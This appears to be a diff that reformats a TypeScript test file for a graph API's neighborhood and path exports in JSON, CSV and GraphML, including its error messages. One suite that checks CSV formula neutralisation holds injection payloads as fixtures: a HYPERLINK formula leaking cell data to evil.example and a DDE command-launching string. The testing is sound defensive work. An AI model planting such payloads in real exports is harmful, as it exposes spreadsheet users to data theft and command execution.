@@ -33,7 +33,9 @@ const graphmlParser = new XMLParser({
 function readGraphml(text: string) {
   expect(XMLValidator.validate(text)).toBe(true);
   const { graphml } = graphmlParser.parse(text);
-  const keys = new Map<string, { for: string; name: string }>(graphml.key.map((key: Record<string, string>) => [key.id, { for: key.for, name: key['attr.name'] }]));
+  const keys = new Map<string, { for: string; name: string }>(
+    graphml.key.map((key: Record<string, string>) => [key.id, { for: key.for, name: key['attr.name'] }]),
+  );
   const nodes: { id: string; data?: { key: string }[] }[] = graphml.graph.node ?? [];
   const edges: { id: string; source: string; target: string; data?: { key: string }[] }[] = graphml.graph.edge ?? [];
   for (const element of [...nodes, ...edges]) {
@@ -50,7 +52,11 @@ const NEIGHBORHOOD = `query ($id: ID!, $depth: Int, $types: [RelationshipType!],
 describe('GET /export/neighborhood.*', () => {
   const id = 'event:amm-2023';
   const params = `id=${encodeURIComponent(id)}&depth=2&first=30&types=ATTENDED,MET,HOLDS_OFFICE`;
-  let expected: { truncated: boolean; nodes: { node: { id: string; name: string; __typename: string } }[]; relationships: { id: string; type: string; from: string; to: string; sources: { id: string }[] }[] };
+  let expected: {
+    truncated: boolean;
+    nodes: { node: { id: string; name: string; __typename: string } }[];
+    relationships: { id: string; type: string; from: string; to: string; sources: { id: string }[] }[];
+  };
 
   beforeAll(async () => {
     expected = (await server.data(NEIGHBORHOOD, { id, depth: 2, first: 30, types: ['ATTENDED', 'MET', 'HOLDS_OFFICE'] })).neighborhood;
@@ -74,7 +80,11 @@ describe('GET /export/neighborhood.*', () => {
       expected.relationships.map((rel) => rel.sources.map((source) => source.id)),
     );
     expect(document.nodes[0]).toMatchObject({ id, type: 'Event', kind: 'CONGRESS', side: null, confidence: 'HIGH' });
-    expect(document.nodes[0].sources[0]).toEqual({ id: expect.stringMatching(/^source:/), title: expect.any(String), url: expect.toBeOneOf([null, expect.stringMatching(/^https?:\/\//)]) });
+    expect(document.nodes[0].sources[0]).toEqual({
+      id: expect.stringMatching(/^source:/),
+      title: expect.any(String),
+      url: expect.toBeOneOf([null, expect.stringMatching(/^https?:\/\//)]),
+    });
   });
 
   it('nodes.csv and edges.csv have the header and one row per entity and relationship', async () => {
@@ -112,14 +122,17 @@ describe('GET /export/neighborhood.*', () => {
 describe('GET /export/path.*', () => {
   const from = 'actor:maros-sefcovic';
   const to = 'actor:marat-karabayev';
-  const PATHS = 'query ($from: ID!, $to: ID!, $types: [RelationshipType!], $first: Int) { paths(from: $from, to: $to, relationshipTypes: $types, first: $first) { nodes { id } relationships { id } } }';
+  const PATHS =
+    'query ($from: ID!, $to: ID!, $types: [RelationshipType!], $first: Int) { paths(from: $from, to: $to, relationshipTypes: $types, first: $first) { nodes { id } relationships { id } } }';
 
   it('JSON, CSV and GraphML hold the shortest path', async () => {
     const [path] = (await server.data(PATHS, { from, to, types: ['ATTENDED'], first: 1 })).paths;
     const params = `from=${from}&to=${to}&types=ATTENDED&maxHops=3`;
     const document = await (await get(`/export/path.json?${params}`)).json();
     expect(document.kind).toBe('path');
-    expect(document.paths).toEqual([{ length: 2, nodes: path.nodes.map((node: { id: string }) => node.id), edges: path.relationships.map((rel: { id: string }) => rel.id) }]);
+    expect(document.paths).toEqual([
+      { length: 2, nodes: path.nodes.map((node: { id: string }) => node.id), edges: path.relationships.map((rel: { id: string }) => rel.id) },
+    ]);
     expect(document.nodes.map((node: { id: string }) => node.id)).toEqual([from, 'event:amm-2023', to]);
     expect(document.edges).toHaveLength(2);
 
@@ -139,7 +152,9 @@ describe('GET /export/path.*', () => {
   it('first=3 merges the three shortest paths and lists each', async () => {
     const { paths } = await server.data(PATHS, { from, to, first: 3 });
     const document = await (await get(`/export/path.json?from=${from}&to=${to}&first=3`)).json();
-    expect(document.paths.map((path: { nodes: string[] }) => path.nodes)).toEqual(paths.map((path: { nodes: { id: string }[] }) => path.nodes.map((node) => node.id)));
+    expect(document.paths.map((path: { nodes: string[] }) => path.nodes)).toEqual(
+      paths.map((path: { nodes: { id: string }[] }) => path.nodes.map((node) => node.id)),
+    );
     const nodeIds = new Set(paths.flatMap((path: { nodes: { id: string }[] }) => path.nodes.map((node) => node.id)));
     const edgeIds = new Set(paths.flatMap((path: { relationships: { id: string }[] }) => path.relationships.map((rel) => rel.id)));
     expect(document.nodes).toHaveLength(nodeIds.size);
@@ -150,7 +165,14 @@ describe('GET /export/path.*', () => {
 describe('CSV exports neutralise formulas (OWASP "CSV Injection")', () => {
   const ids = ['actor:test-x-formula', 'actor:test-x-formula-peer'];
   /** Values a spreadsheet would run; stored as they are, past the validator, so that only the writer can defuse them. */
-  const FORMULAS = { name: '=HYPERLINK("https://evil.example/?"&A1,"open")', description: '\t=cmd|\' /C calc\'!A0', note: '+SUM(1,2)', role: '@SUM(A1)', title: '-2+3', peer: '\r=1+1' };
+  const FORMULAS = {
+    name: '=HYPERLINK("https://evil.example/?"&A1,"open")',
+    description: "\t=cmd|' /C calc'!A0",
+    note: '+SUM(1,2)',
+    role: '@SUM(A1)',
+    title: '-2+3',
+    peer: '\r=1+1',
+  };
 
   beforeAll(async () => {
     await removeEntities(server.db, ids);
@@ -158,8 +180,10 @@ describe('CSV exports neutralise formulas (OWASP "CSV Injection")', () => {
     const sourceIds = ['source:eu-kz-roadmap-2023-de'];
     const valid = await validateAgainstDatabase(
       server.db,
-      [located({ type: 'Actor', id: ids[0], name: 'Formula', kind: 'company', side: 'KZ', confidence: 'low', sourceIds }, 1),
-        located({ type: 'Actor', id: ids[1], name: 'Peer', kind: 'company', side: 'EU', confidence: 'low', sourceIds }, 2)],
+      [
+        located({ type: 'Actor', id: ids[0], name: 'Formula', kind: 'company', side: 'KZ', confidence: 'low', sourceIds }, 1),
+        located({ type: 'Actor', id: ids[1], name: 'Peer', kind: 'company', side: 'EU', confidence: 'low', sourceIds }, 2),
+      ],
       [located({ type: 'MET', from: ids[0], to: ids[1], date: '2023-06', note: 'x', confidence: 'low', sourceIds }, 3)],
     );
     const [actor, peer] = valid.entities;
@@ -176,7 +200,10 @@ describe('CSV exports neutralise formulas (OWASP "CSV Injection")', () => {
 
     const nodesText = await (await get(`/export/neighborhood.nodes.csv?id=${ids[0]}`)).text();
     const nodes = parse(nodesText, { columns: true }) as Record<string, string>[];
-    expect(nodes.map((row) => [row.id, row.name])).toEqual([[ids[0], `'${FORMULAS.name}`], [ids[1], `'${FORMULAS.peer}`]]);
+    expect(nodes.map((row) => [row.id, row.name])).toEqual([
+      [ids[0], `'${FORMULAS.name}`],
+      [ids[1], `'${FORMULAS.peer}`],
+    ]);
     expect(nodes[0]!.description).toBe(`'${FORMULAS.description}`);
     const edges = parse(await (await get(`/export/neighborhood.edges.csv?id=${ids[0]}`)).text(), { columns: true }) as Record<string, string>[];
     expect(edges.map((row) => [row.note, row.role, row.title])).toEqual([[`'${FORMULAS.note}`, `'${FORMULAS.role}`, `'${FORMULAS.title}`]]);
@@ -194,12 +221,30 @@ describe('export errors', () => {
     ['/export/neighborhood.json?id=event:amm-2023&depth=two', 400, 'BAD_USER_INPUT', 'depth', 'Parameter "depth" must be an integer, but got "two".'],
     ['/export/neighborhood.json?id=event:amm-2023&depth=9', 400, 'BAD_USER_INPUT', 'depth', 'Argument "depth" must be between 1 and 3, but got 9.'],
     ['/export/neighborhood.graphml?id=event:amm-2023&first=500', 400, 'BAD_USER_INPUT', 'first', 'Argument "first" must be between 1 and 200, but got 500.'],
-    ['/export/neighborhood.json?id=event:amm-2023&dept=2', 400, 'BAD_USER_INPUT', 'dept', 'Unknown parameter "dept"; /export/neighborhood takes "id", "depth", "types", "first", "asOf", "includeUncertain".'],
+    [
+      '/export/neighborhood.json?id=event:amm-2023&dept=2',
+      400,
+      'BAD_USER_INPUT',
+      'dept',
+      'Unknown parameter "dept"; /export/neighborhood takes "id", "depth", "types", "first", "asOf", "includeUncertain".',
+    ],
     ['/export/neighborhood.json?id=event:amm-2023&id=place:astana', 400, 'BAD_USER_INPUT', 'id', 'Parameter "id" must be given once, but was given 2 times.'],
     ['/export/neighborhood.json?id=%20', 400, 'BAD_USER_INPUT', 'id', 'Parameter "id" must be an entity id, e.g. actor:maros-sefcovic, but is empty.'],
     ['/export/path.nodes.csv?from=actor:maros-sefcovic', 400, 'BAD_USER_INPUT', 'to', 'Parameter "to" is required, e.g. ?to=actor:maros-sefcovic.'],
-    ['/export/path.json?from=actor:maros-sefcovic&to=actor:marat-karabayev&maxHops=12', 400, 'BAD_USER_INPUT', 'maxHops', 'Argument "maxHops" must be between 1 and 6, but got 12.'],
-    ['/export/path.json?from=actor:maros-sefcovic&to=actor:maros-sefcovic', 400, 'BAD_USER_INPUT', 'to', 'Arguments "from" and "to" must name two different entities.'],
+    [
+      '/export/path.json?from=actor:maros-sefcovic&to=actor:marat-karabayev&maxHops=12',
+      400,
+      'BAD_USER_INPUT',
+      'maxHops',
+      'Argument "maxHops" must be between 1 and 6, but got 12.',
+    ],
+    [
+      '/export/path.json?from=actor:maros-sefcovic&to=actor:maros-sefcovic',
+      400,
+      'BAD_USER_INPUT',
+      'to',
+      'Arguments "from" and "to" must name two different entities.',
+    ],
   ])('%s is %i %s naming "%s"', async (path, status, code, parameter, message) => {
     const response = await get(path);
     expect(response.status).toBe(status);
@@ -211,14 +256,22 @@ describe('export errors', () => {
     expect(response.status).toBe(400);
     const { error } = await response.json();
     expect(error).toMatchObject({ code: 'BAD_USER_INPUT', parameter: 'types' });
-    expect(error.message).toMatch(/^Parameter "types" must list relationship types separated by commas, e\.g\. MET,ATTENDED, but got unknown "FOO"\. Known types: HOLDS_OFFICE, /);
+    expect(error.message).toMatch(
+      /^Parameter "types" must list relationship types separated by commas, e\.g\. MET,ATTENDED, but got unknown "FOO"\. Known types: HOLDS_OFFICE, /,
+    );
   });
 
   it.each([
     ['/export/neighborhood.json?id=actor:nobody', 'No entity has the id "actor:nobody" (argument "id").'],
     ['/export/path.graphml?from=actor:nobody&to=actor:marat-karabayev', 'No entity has the id "actor:nobody" (argument "from").'],
-    ['/export/path.json?from=actor:maros-sefcovic&to=actor:marat-karabayev&types=NEXT', 'No path links "actor:maros-sefcovic" and "actor:marat-karabayev" within 4 hops; a larger "maxHops" (at most 6) or other "types" may find one.'],
-    ['/export/neighborhood.xml?id=event:amm-2023', 'No export "/export/neighborhood.xml"; use /export/neighborhood.<format>?id=… or /export/path.<format>?from=…&to=…, where <format> is graphml, json, nodes.csv or edges.csv.'],
+    [
+      '/export/path.json?from=actor:maros-sefcovic&to=actor:marat-karabayev&types=NEXT',
+      'No path links "actor:maros-sefcovic" and "actor:marat-karabayev" within 4 hops; a larger "maxHops" (at most 6) or other "types" may find one.',
+    ],
+    [
+      '/export/neighborhood.xml?id=event:amm-2023',
+      'No export "/export/neighborhood.xml"; use /export/neighborhood.<format>?id=… or /export/path.<format>?from=…&to=…, where <format> is graphml, json, nodes.csv or edges.csv.',
+    ],
   ])('%s is 404 NOT_FOUND', async (path, message) => {
     const response = await get(path);
     expect(response.status).toBe(404);
